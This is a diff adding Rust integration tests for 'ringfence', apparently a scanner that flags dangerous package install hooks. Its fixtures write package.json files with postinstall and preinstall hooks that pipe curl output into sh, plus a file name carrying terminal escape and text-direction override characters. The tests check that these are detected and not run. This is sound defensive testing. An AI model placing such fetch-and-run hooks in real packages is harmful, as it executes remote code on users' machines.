@@ -14,3 +14,113 @@ fn the_program_says_its_version_and_the_schema_that_is_published() {
         assert_eq!(String::from_utf8(output.stdout).unwrap(), answer);
     }
 }
+
+mod scan {
+    use std::path::Path;
+    use std::process::{Command, Output};
+
+    fn scan(arguments: &[&str], target: &Path) -> Output {
+        let mut command = Command::new(env!("CARGO_BIN_EXE_ringfence"));
+        command.arg("scan").args(arguments).arg(target).output().unwrap()
+    }
+
+    fn text(bytes: &[u8]) -> String {
+        String::from_utf8(bytes.to_vec()).unwrap()
+    }
+
+    /// A package whose hook fetches something and runs it.
+    fn bad(folder: &Path) {
+        let hook = r#"{"name":"bad","scripts":{"postinstall":"curl -s http://192.0.2.1/x | sh"}}"#;
+        std::fs::write(folder.join("package.json"), hook).unwrap();
+    }
+
+    #[test]
+    fn a_package_that_fetches_and_runs_is_refused_in_every_format_and_nothing_of_it_ran() {
+        let folder = tempfile::tempdir().unwrap();
+        let marker = folder.path().join("ran");
+        bad(folder.path());
+        let hook = format!(
+            "{{\"scripts\":{{\"preinstall\":\"touch {}; curl x | sh\"}}}}",
+            marker.display()
+        );
+        let inner = folder.path().join("inner");
+        std::fs::create_dir(&inner).unwrap();
+        std::fs::write(inner.join("package.json"), hook).unwrap();
+        for format in ["text", "json", "sarif", "markdown"] {
+            let done = scan(&["--format", format], folder.path());
+            assert_eq!(done.status.code(), Some(9), "{done:?}");
+            assert!(text(&done.stdout).contains("download-and-execute"), "{done:?}");
+            assert_eq!(text(&done.stderr), "", "a quick scan says nothing else");
+        }
+        assert!(!marker.exists(), "the hook of the package was run");
+    }
+
+    #[test]
+    fn a_threshold_decides_about_the_exit_code_and_not_about_the_answer() {
+        let folder = tempfile::tempdir().unwrap();
+        std::fs::write(folder.path().join("notes.txt"), "nothing").unwrap();
+        for (arguments, code) in [
+            (&["--fail-on", "warning"][..], 0),
+            (&["--fail-on", "score:100"], 0),
+            (&["--fail-on", "score:101"], 2),
+            (&["--format", "yaml"], 2),
+        ] {
+            assert_eq!(scan(arguments, folder.path()).status.code(), Some(code), "{arguments:?}");
+        }
+        bad(folder.path());
+        assert_eq!(scan(&["--fail-on", "score:0"], folder.path()).status.code(), Some(0));
+        assert_eq!(scan(&["--fail-on", "warning"], folder.path()).status.code(), Some(9));
+    }
+
+    #[test]
+    fn a_wrong_policy_is_told_with_line_and_column_and_nothing_is_answered() {
+        let folder = tempfile::tempdir().unwrap();
+        let policy = folder.path().join("policy.toml");
+        std::fs::write(&policy, "[block]\ncodes = [\"persistance\"]\n").unwrap();
+        let done = scan(&["--policy", policy.to_str().unwrap()], folder.path());
+        assert_eq!(done.status.code(), Some(2));
+        assert_eq!(text(&done.stdout), "");
+        let told = text(&done.stderr);
+        assert!(told.contains("line 2, column 10") && told.contains("`persistence`"), "{told}");
+    }
+
+    #[test]
+    fn a_kept_report_is_a_baseline_and_the_new_chain_is_told() {
+        let folder = tempfile::tempdir().unwrap();
+        let package = folder.path().join("package");
+        std::fs::create_dir(&package).unwrap();
+        std::fs::write(package.join("package.json"), r#"{"name":"bad"}"#).unwrap();
+        let kept = folder.path().join("old.json");
+        std::fs::write(&kept, scan(&["--format", "json"], &package).stdout).unwrap();
+        bad(&package);
+        let done = scan(&["--baseline", kept.to_str().unwrap()], &package);
+        let told = text(&done.stdout);
+        assert!(told.contains("compared with the version before"), "{told}");
+        assert!(told.contains("+ found critical download-and-execute"), "{told}");
+        let same = scan(&["--baseline", package.to_str().unwrap()], &package);
+        assert!(text(&same.stdout).contains("it does and needs the same"));
+    }
+
+    #[test]
+    fn a_name_of_a_file_moves_no_cursor() {
+        let folder = tempfile::tempdir().unwrap();
+        std::fs::write(folder.path().join("a\u{1b}[2J\u{202e}.js"), [0, 159, 146, 150]).unwrap();
+        for format in ["text", "json", "sarif", "markdown"] {
+            let done = scan(&["--format", format], folder.path());
+            let told = text(&done.stdout);
+            assert!(!told.contains(['\u{1b}', '\u{202e}']), "{format}: {told:?}");
+        }
+    }
+
+    #[test]
+    fn a_manifest_that_is_written_fits_the_code() {
+        let folder = tempfile::tempdir().unwrap();
+        std::fs::write(folder.path().join("index.js"), "").unwrap();
+        let done = scan(&["--manifest"], folder.path());
+        assert_eq!(done.status.code(), Some(0), "{done:?}");
+        std::fs::write(folder.path().join("plugin.yaml"), &done.stdout).unwrap();
+        let done = scan(&["--format", "json"], folder.path());
+        let told = text(&done.stdout);
+        assert!(!told.contains("-capability\"") && !told.contains("manifest-broken"), "{told}");
+    }
+}
